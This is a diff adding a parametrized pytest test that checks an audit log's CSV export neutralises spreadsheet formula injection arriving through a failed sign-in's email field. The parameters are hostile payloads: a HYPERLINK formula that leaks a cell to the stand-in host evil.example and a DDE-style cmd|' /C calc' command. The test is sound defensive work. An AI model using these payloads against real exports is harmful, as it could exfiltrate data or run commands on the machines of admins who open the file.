@@ -133,3 +133,21 @@ def test_search_and_export_are_for_admins_and_filter(session_factory):
         assert len(lines) == 2 and '"action":"thing.do0"' in lines[0]
         csv_lines = "".join(audit.export_lines(session, "csv")).splitlines()
         assert csv_lines[0].startswith("seq,at,actor") and len(csv_lines) == 6
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+cmd|' /C calc'!A0",
+                                   "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
+def test_csv_export_never_hands_a_spreadsheet_a_formula(session_factory, typed):
+    """The attack: a failed sign-in's email is a formula, and the admin opens the export in a spreadsheet."""
+    import csv
+    import io
+
+    from onevoice.governance import signin
+
+    with unit_of_work(session_factory) as session:
+        signin.record_failure(session, typed, "10.0.0.1")
+    with session_factory() as session:
+        rows = list(csv.DictReader(io.StringIO("".join(audit.export_lines(session, "csv", action=signin.FAILED)))))
+    actor = rows[-1]["actor"]
+    assert actor.startswith("'") and actor[1:] == typed.strip().lower()[:200]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
